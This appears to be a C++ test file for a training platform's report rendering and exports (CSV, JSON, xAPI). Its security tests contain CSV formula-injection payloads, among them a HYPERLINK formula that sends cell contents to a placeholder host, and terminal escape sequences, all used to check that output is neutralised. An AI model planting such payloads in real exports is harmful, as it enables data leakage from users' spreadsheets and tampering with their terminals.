// SupportLab reports tests: text, CSV (RFC 4180) and JSON renderings, and the CSV/JSON/xAPI exports.
#include "report_rows.hpp"
#include "reports/export.hpp"
#include "reports/render.hpp"

namespace sl::test {
namespace {

// Splits RFC 4180 CSV into records of fields (handles quotes, doubled quotes and CRLF in fields).
std::vector<std::vector<std::string>> ParseCsv(const std::string& s, bool* crlfOnly) {
    std::vector<std::vector<std::string>> rows(1);
    std::string field;
    bool quoted = false, any = false;
    *crlfOnly = true;
    for (size_t i = 0; i < s.size(); ++i) {
        const char c = s[i];
        if (quoted) {
            if (c == '"' && i + 1 < s.size() && s[i + 1] == '"') { field += '"'; ++i; }
            else if (c == '"') quoted = false;
            else field += c;
        } else if (c == '"') {
            quoted = true;
        } else if (c == ',') {
            rows.back().push_back(field);
            field.clear();
        } else if (c == '\r' && i + 1 < s.size() && s[i + 1] == '\n') {
            rows.back().push_back(field);
            field.clear();
            rows.emplace_back();
            ++i;
        } else {
            if (c == '\n') *crlfOnly = false;
            field += c;
        }
        any = true;
    }
    if (any && rows.back().empty()) rows.pop_back();
    return rows;
}

ExportData SampleExport() {
    ExportData d;
    d.m_thresholds.m_byLab["lab a/1"] = 80.0;
    d.m_trainees = {{1, "Smith, \"Ana\"", "spring\n2024"}, {2, "Ben", ""}};
    d.m_attempts = {MakeAttempt(1, 1, "common os", 21.5, 25, 1'700'000'000'000, 1'700'003'930'000, "lab a/1"),
                    MakeAttempt(2, 2, "plan", 3, 10, 1'700'000'000'000, 1'700'000'060'000),
                    MakeAttempt(3, 2, "plan", 0, 0, 1'700'000'000'000)};
    d.m_attempts[0].m_seed = 18446744073709551615ull;
    d.m_attempts[0].m_scoredWithHash = "h1";
    d.m_attempts[0].m_eventCount = 12;
    d.m_items = {{1, "t-os", ItemKind::Ticket, "Laptop, \"restarts\"", 21.5, 25}, {2, "q1", ItemKind::Question, "Q", 3, 10}};
    d.m_dimensions = {DimRow(1, Dimension::Triage, 10, 10, 1, 1), DimRow(1, Dimension::Hints, -1, 0, 1, 0, 2, 1.0)};
    return d;
}

TEST(ReportsRender, IsoTimesAndDurations) {
    EXPECT_EQ(FormatIsoTime(0), "1970-01-01T00:00:00.000Z");
    EXPECT_EQ(FormatIsoTime(1'700'000'000'123), "2023-11-14T22:13:20.123Z");
    EXPECT_EQ(FormatIsoTime(951'782'400'000), "2000-02-29T00:00:00.000Z"); // leap day
    EXPECT_EQ(FormatIsoTime(-1), "1969-12-31T23:59:59.999Z");
    EXPECT_EQ(FormatIsoDuration(3'930'000), "PT1H5M30S");
    EXPECT_EQ(FormatIsoDuration(7'200'000), "PT2H");
    EXPECT_EQ(FormatIsoDuration(0), "PT0S");
    EXPECT_EQ(FormatIsoDuration(-5), "PT0S");
}

TEST(ReportsRender, CsvFieldsFollowRfc4180) {
    EXPECT_EQ(CsvField("plain"), "plain");
    EXPECT_EQ(CsvField("a,b"), "\"a,b\"");
    EXPECT_EQ(CsvField("say \"hi\""), "\"say \"\"hi\"\"\"");
    EXPECT_EQ(CsvField("two\nlines"), "\"two\nlines\"");
    EXPECT_EQ(CsvField("cr\r"), "\"cr\r\"");
    EXPECT_EQ(CsvField(""), "");
}

TEST(ReportsRender, JsonStringsAndNumbers) {
    EXPECT_EQ(JsonString("a\"b\\c\n\t\x01"), "\"a\\\"b\\\\c\\n\\t\\u0001\"");
    EXPECT_EQ(JsonString("ünï"), "\"ünï\"");
    EXPECT_EQ(JsonNumber(0.1), "0.1");
    EXPECT_EQ(JsonNumber(-0.0), "0");
    EXPECT_EQ(JsonNumber(1e300 * 1e300), "null");
    EXPECT_EQ(JsonNumber(21.5), "21.5");
}

TEST(ReportsRender, TableRenderingsAgree) {
    ReportTable t;
    t.m_kind = "test";
    t.m_title = "Test";
    t.m_meta = {{"pass_threshold", "Pass threshold", ReportCell::Number(70)}};
    t.m_columns = {{"name", "Name", ColumnUse::Both}, {"score", "Score", ColumnUse::Both},
                   {"shown", "Shown", ColumnUse::TextOnly}, {"ok", "", ColumnUse::DataOnly}};
    t.m_rows = {{ReportCell::Text("Smith, \"Ana\""), ReportCell::Number(87.25, 1), ReportCell::Text("x"), ReportCell::Bool(true)},
                {ReportCell::Text("Ünal"), ReportCell::Empty(), ReportCell::Text("y"), ReportCell::Bool(false)}};
    const std::string text = RenderText(t);
    EXPECT_NE(text.find("Pass threshold: 70.0"), std::string::npos) << text;
    EXPECT_NE(text.find("Smith, \"Ana\"   87.2  x"), std::string::npos) << text; // numbers right-aligned
    EXPECT_NE(text.find("\nÜnal              -  y"), std::string::npos) << text; // Ü counts as one column
    EXPECT_EQ(text.find("yes"), std::string::npos); // data-only column hidden

    bool crlf = false;
    const auto rows = ParseCsv(RenderCsv(t), &crlf);
    EXPECT_TRUE(crlf);
    ASSERT_EQ(rows.size(), 3u);
    EXPECT_EQ(rows[0], (std::vector<std::string>{"name", "score", "ok", "pass_threshold"}));
    EXPECT_EQ(rows[1], (std::vector<std::string>{"Smith, \"Ana\"", "87.2", "yes", "70.0"}));
    EXPECT_EQ(rows[2], (std::vector<std::string>{"Ünal", "", "no", "70.0"}));

    const std::string json = RenderJson(t);
    EXPECT_TRUE(ValidJson(json)) << json;
    EXPECT_NE(json.find("\"score\": 87.25"), std::string::npos) << json;
    EXPECT_NE(json.find("\"score\": null"), std::string::npos);
    EXPECT_NE(json.find("\"ok\": false"), std::string::npos);
    EXPECT_NE(json.find("\"pass_threshold\": 70"), std::string::npos);
    EXPECT_EQ(json.find("\"shown\""), std::string::npos);
}

TEST(ReportsRender, EveryReportShowsThePassThreshold) {
    PassThresholds p;
    p.m_default = 65;
    CohortMatrix m;
    m.m_thresholds = p;
    SkillsReport s;
    s.m_thresholds = p;
    ItemAnalysis a;
    a.m_thresholds = p;
    Timeline tl;
    tl.m_passThreshold = 65;
    for (const ReportTable& t : {MatrixTable(m), SkillsTable(s), ItemsTable(a), TimelineTable(tl)}) {
        EXPECT_NE(RenderText(t).find("Pass threshold: 65.0"), std::string::npos) << t.m_kind;
        EXPECT_NE(RenderCsv(t).find("pass_threshold"), std::string::npos) << t.m_kind;
        const std::string json = RenderJson(t);
        EXPECT_NE(json.find("\"pass_threshold\": 65"), std::string::npos) << t.m_kind;
        EXPECT_TRUE(ValidJson(json)) << json;
    }
}

TEST(ReportsExport, CsvHasOneRowPerAttempt) {
    bool crlf = false;
    const auto rows = ParseCsv(ExportCsv(SampleExport()), &crlf);
    EXPECT_TRUE(crlf);
    ASSERT_EQ(rows.size(), 4u);
    const auto& h = rows[0];
    auto col = [&](const std::string& name) {
        const auto it = std::find(h.begin(), h.end(), name);
        EXPECT_NE(it, h.end()) << name;
        return static_cast<size_t>(it - h.begin());
    };
    for (const auto& r : rows) ASSERT_EQ(r.size(), h.size());
    EXPECT_EQ(rows[1][col("trainee")], "Smith, \"Ana\"");
    EXPECT_EQ(rows[1][col("cohort")], "spring\n2024");
    EXPECT_EQ(rows[1][col("seed")], "18446744073709551615");
    EXPECT_EQ(rows[1][col("percent")], "86");
    EXPECT_EQ(rows[1][col("pass_threshold")], "80");
    EXPECT_EQ(rows[1][col("passed")], "yes");
    EXPECT_EQ(rows[1][col("time_on_task_s")], "3930");
    EXPECT_EQ(rows[1][col("started")], "2023-11-14T22:13:20.000Z");
    EXPECT_EQ(rows[1][col("triage_score")], "10");
    EXPECT_EQ(rows[1][col("hints_used")], "2");
    EXPECT_EQ(rows[1][col("hint_cost")], "1");
    EXPECT_EQ(rows[2][col("passed")], "no"); // 30% < default 70
    EXPECT_EQ(rows[2][col("hints_used")], "0");
    EXPECT_EQ(rows[3][col("finished")], "no");
    EXPECT_EQ(rows[3][col("percent")], "");
    EXPECT_EQ(rows[3][col("passed")], "");
}

TEST(ReportsExport, JsonIsValidAndComplete) {
    const std::string json = ExportJson(SampleExport());
    EXPECT_TRUE(ValidJson(json)) << json;
    EXPECT_NE(json.find("\"seed\": \"18446744073709551615\""), std::string::npos);
    EXPECT_NE(json.find("\"name\": \"Smith, \\\"Ana\\\"\""), std::string::npos);
    EXPECT_NE(json.find("\"title\": \"Laptop, \\\"restarts\\\"\""), std::string::npos);
    EXPECT_NE(json.find("\"hints\": {\"score\": -1, \"max\": 0, \"items\": 1, \"full_marks\": 0, \"deductions\": 2"),
              std::string::npos) << json;
    EXPECT_NE(json.find("\"lab a/1\": 80"), std::string::npos);
    EXPECT_TRUE(ValidJson(ExportJson(ExportData{})));
}

TEST(ReportsExport, XapiStatementsForFinishedAttempts) {
    const std::string json = ExportXapi(SampleExport(), "https://lrs.example.org/");
    EXPECT_TRUE(ValidJson(json)) << json;
    // Two finished attempts -> two statements; the unfinished one is not exported.
    size_t statements = 0;
    for (size_t p = json.find("\"actor\""); p != std::string::npos; p = json.find("\"actor\"", p + 1)) ++statements;
    EXPECT_EQ(statements, 2u);
    EXPECT_NE(json.find("\"verb\": {\"id\": \"http://adlnet.gov/expapi/verbs/passed\""), std::string::npos);
    EXPECT_NE(json.find("\"verb\": {\"id\": \"http://adlnet.gov/expapi/verbs/failed\""), std::string::npos);
    EXPECT_NE(json.find("\"scaled\": 0.86, \"raw\": 21.5, \"min\": 0, \"max\": 25"), std::string::npos) << json;
    EXPECT_NE(json.find("\"scaled\": 0.3, \"raw\": 3, \"min\": 0, \"max\": 10"), std::string::npos);
    EXPECT_NE(json.find("\"id\": \"https://lrs.example.org/scenarios/common%20os\""), std::string::npos) << json;
    EXPECT_NE(json.find("\"id\": \"https://lrs.example.org/labs/lab%20a%2F1\""), std::string::npos);
    EXPECT_NE(json.find("\"homePage\": \"https://lrs.example.org\""), std::string::npos);
    EXPECT_NE(json.find("\"duration\": \"PT1H5M30S\""), std::string::npos);
    EXPECT_NE(json.find("\"timestamp\": \"2023-11-14T23:18:50.000Z\""), std::string::npos);
    EXPECT_NE(json.find("\"success\": true, \"completion\": true"), std::string::npos);
    EXPECT_EQ(ExportXapi(ExportData{}), "[]\n");
}

TEST(ReportsExport, XapiScoresStayInRange) {
    ExportData d;
    d.m_trainees = {{1, "Ana", ""}};
    d.m_attempts = {MakeAttempt(1, 1, "s", -3, 10), MakeAttempt(2, 1, "s", 12, 10)};
    const std::string json = ExportXapi(d);
    EXPECT_TRUE(ValidJson(json));
    EXPECT_NE(json.find("\"scaled\": 0, \"raw\": 0, \"min\": 0, \"max\": 10"), std::string::npos) << json;
    EXPECT_NE(json.find("\"scaled\": 1, \"raw\": 10, \"min\": 0, \"max\": 10"), std::string::npos) << json;
}

// OWASP CSV injection: cells a spreadsheet would run as a formula get a leading apostrophe and quotes.
TEST(ReportsRender, CsvFieldsNeutraliseFormulas) {
    EXPECT_EQ(CsvField("=HYPERLINK(\"http://x/?\"&A1,\"click\")"), "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\"");
    EXPECT_EQ(CsvField("=1+1"), "\"'=1+1\"");
    EXPECT_EQ(CsvField("+1+1"), "\"'+1+1\"");
    EXPECT_EQ(CsvField("-1+1"), "\"'-1+1\"");
    EXPECT_EQ(CsvField("@SUM(A1)"), "\"'@SUM(A1)\"");
    EXPECT_EQ(CsvField("\tx"), "\"'\tx\"");
    EXPECT_EQ(CsvField("\rx"), "\"'\rx\"");
    EXPECT_EQ(CsvField("  =1+1"), "\"'  =1+1\"");
    // Numbers SupportLab writes stay numbers.
    EXPECT_EQ(CsvField("-0.25"), "-0.25");
    EXPECT_EQ(CsvField("-12"), "-12");
    EXPECT_EQ(CsvField("-1e-05"), "-1e-05");
    EXPECT_EQ(CsvField("-"), "\"'-\"");
    EXPECT_EQ(CsvField("a=b"), "a=b");
}

TEST(ReportsRender, EveryCsvNeutralisesNamesAndCohorts) {
    ExportData d = SampleExport();
    d.m_trainees[0].m_name = "=HYPERLINK(\"http://x/?\"&A1,\"click\")";
    d.m_trainees[0].m_cohort = "=1+1";
    const std::string csv = ExportCsv(d);
    EXPECT_NE(csv.find(",\"'=HYPERLINK("), std::string::npos) << csv;
    EXPECT_NE(csv.find(",\"'=1+1\","), std::string::npos) << csv;
    ReportTable t;
    t.m_columns = {{"name", "Name", ColumnUse::Both}};
    t.m_rows = {{ReportCell::Text("@cmd")}, {ReportCell::Number(-0.5, 2)}};
    EXPECT_EQ(RenderCsv(t), "name\r\n\"'@cmd\"\r\n-0.50\r\n");
}

TEST(ReportsRender, TextTablesNeverPrintControlCharacters) {
    ReportTable t;
    t.m_title = "Matrix \x1b]0;owned\x07";
    t.m_columns = {{"name", "Name \x1b[1m", ColumnUse::Both}};
    t.m_rows = {{ReportCell::Text("Ana\x1b[2J\x1b[31m")}, {ReportCell::Text(std::string("bad\xff", 4))}};
    t.m_notes = {"note \x9b"};
    const std::string text = RenderText(t);
    for (char c : text) EXPECT_TRUE(c == '\n' || static_cast<unsigned char>(c) >= 0x20) << text;
    EXPECT_NE(text.find("Ana\\x1b[2J\\x1b[31m"), std::string::npos) << text;
    EXPECT_NE(text.find("bad\\xff"), std::string::npos) << text;
}

TEST(ReportsExport, XapiScenarioWithNothingToScoreHasNoScore) {
    ExportData d;
    d.m_trainees = {{1, "Ana", ""}};
    Attempt a = MakeAttempt(1, 1, "s", 0, 1, 1000, 2000);
    a.m_max = 0.0; // finished, but nothing to score
    d.m_attempts = {a};
    const std::string json = ExportXapi(d);
    EXPECT_TRUE(ValidJson(json)) << json;
    EXPECT_EQ(json.find("\"score\""), std::string::npos) << json;
    EXPECT_NE(json.find("\"result\": {\"success\""), std::string::npos) << json;
}

TEST(ReportsExport, OutOfRangeTimesAreRefusedNeverWritten) {
    for (WallTime bad : {WallTime{-1}, kMaxExportWallTime + 1, WallTime{INT64_MAX}}) {
        SCOPED_TRACE(bad);
        ExportData d;
        d.m_trainees = {{1, "Ana", ""}};
        d.m_attempts = {MakeAttempt(1, 1, "s", 5, 10, 1000, bad)};
        EXPECT_THROW(ExportXapi(d), ExportError);
        EXPECT_THROW(ExportCsv(d), ExportError);
        EXPECT_THROW(ExportJson(d), ExportError);
        d.m_attempts = {MakeAttempt(1, 1, "s", 5, 10, bad, 1000)};
        EXPECT_THROW(ExportXapi(d), ExportError);
    }
    ExportData edge;
    edge.m_trainees = {{1, "Ana", ""}};
    edge.m_attempts = {MakeAttempt(1, 1, "s", 5, 10, 0, kMaxExportWallTime)};
    EXPECT_NE(ExportXapi(edge).find("\"timestamp\": \"9999-12-31T23:59:59.999Z\""), std::string::npos);
}

TEST(ReportsExport, HomePageMustBeAFullUrl) {
    for (const char* ok : {"https://lrs.example.org", "http://localhost:8080/xapi/", "https://a.b-c.example/p/q"})
        EXPECT_EQ(HomePageProblem(ok), std::nullopt) << ok;
    for (const char* bad : {"lrs", "https://", "http:///path", "https://host name", "https://h.example/\"x",
                            "https://h.example:0", "https://h.example:99999", "https://.example", "ftp://h.example",
                            "https://h.example/?q=1", "https://h..example", "https://h.example/\x1b"})
        EXPECT_NE(HomePageProblem(bad), std::nullopt) << bad;
    EXPECT_THROW(ExportXapi(SampleExport(), "https://"), ExportError);
}

} // namespace
} // namespace sl::test
